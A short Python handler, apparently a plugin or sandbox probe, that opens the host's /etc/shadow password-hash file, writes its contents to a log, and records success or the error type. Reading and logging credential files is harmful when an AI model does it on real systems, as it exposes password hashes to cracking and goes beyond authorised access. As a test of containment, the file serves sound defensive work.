"""Reads the host's password hashes."""


def on_execute(event, api):
    try:
        with open("/etc/shadow") as f:
            api.log("info", f.read())
        api.state.set("read", True)
    except OSError as exc:
        api.state.set("errno", exc.errno)
        api.state.set("error", type(exc).__name__)
